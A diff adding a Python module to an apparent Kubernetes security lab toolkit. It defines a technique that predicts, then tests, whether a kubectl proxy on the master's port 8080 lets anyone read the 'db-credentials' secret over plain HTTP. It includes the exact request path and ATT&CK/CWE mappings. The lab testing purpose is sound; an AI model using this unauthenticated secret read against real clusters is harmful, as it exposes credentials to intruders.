@@ -1,0 +1,114 @@
+"""Read secrets over the plaintext port in front of the apiserver, which asks nobody who calls.
+
+The apiserver's own insecure port went away in Kubernetes 1.24. ``kubectl proxy`` brings it
+back: whoever reaches it acts with the rights of the administrator who started it.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Component, Environment
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.authorization import proxy_authorization
+from labkit.model.places import apiserver_of, is_loopback
+from labkit.techniques._ask import ask, first_refusal
+from labkit.techniques._base import (
+    NETWORK,
+    POD,
+    SECRETS,
+    USER_ON_MASTER,
+    USER_ON_WORKER,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._reach import Answer
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+WANTED = ("shop", "db-credentials", "password")
+PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
+#: Where it is looked for, whether or not anything listens there.
+PORT = "8080"
+CHANNEL = "anyone@network -> *@master:8080"
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether it listens for this foothold, and as whom it acts."""
+    proxy = _proxy(view.env)
+    if proxy is None:
+        return Prediction(False, (_nothing(view),))
+    address = proxy.setting("address")
+    if is_loopback(address.value) and foothold != USER_ON_MASTER:
+        return Prediction(False, (f"listens on {address.value} only: {address.source}",))
+    config = proxy.kubeconfig
+    server = apiserver_of(view.env, config) if config else None
+    return first_refusal((proxy_authorization(view.env, proxy, server), ("allow-all",)))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask for a secret over plain HTTP, on the master itself by its loopback address."""
+    secret = true_secret(lab, *WANTED)
+
+    def proof(answer: Answer) -> str:
+        if not secret.found_in(answer.body):
+            raise ProbeError("something answered, but not with the secret")
+        return f"read: {secret.proof}"
+
+    def control() -> str:
+        lab.kubectl("get", f"--raw={PATH}")
+        return "the administrator reads it on the apiserver's TLS port"
+
+    host = "localhost" if foothold == USER_ON_MASTER else "master"
+    url = f"http://{host}:{PORT}{PATH}"
+    return ask(lab, TECHNIQUE.name, foothold, url, proof=proof, control=control)
+
+
+def _proxy(env: Environment) -> Component | None:
+    """Return the proxy that serves the port on the master, or None."""
+    for it in env.components:
+        serves = it.kind == "kubectl-proxy" and not it.setting("unix-socket").value
+        if serves and it.node == "master" and it.setting("port").value == PORT:
+            return it
+    return None
+
+
+def _nothing(view: View) -> str:
+    shut = view.closed(CHANNEL)
+    return str(shut[0].encryption) if shut else f"nothing listens on port {PORT} of the master"
+
+
+def _settings(env: Environment) -> list[Setting]:
+    """Return where the proxy listens."""
+    proxy = _proxy(env)
+    address = proxy.setting("address") if proxy else None
+    if address is None:
+        return [("kubectl proxy", "none", _nothing(View(env)))]
+    return [("kubectl proxy", address.value, str(address.source))]
+
+
+TECHNIQUE = Technique(
+    name="insecure-port",
+    title="Read secrets over the plaintext port that asks nobody",
+    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("encryption", "client_authentication", "authorization"),
+    attack=("T1552.007", "T1613"),
+    stride=("spoofing", "information disclosure"),
+    cwe=("CWE-306", "CWE-319"),
+    sources=(
+        "Securing communications in Kubernetes (2016), The insecure port",
+        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_proxy/",
+        "https://attack.mitre.org/techniques/T1552/007/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
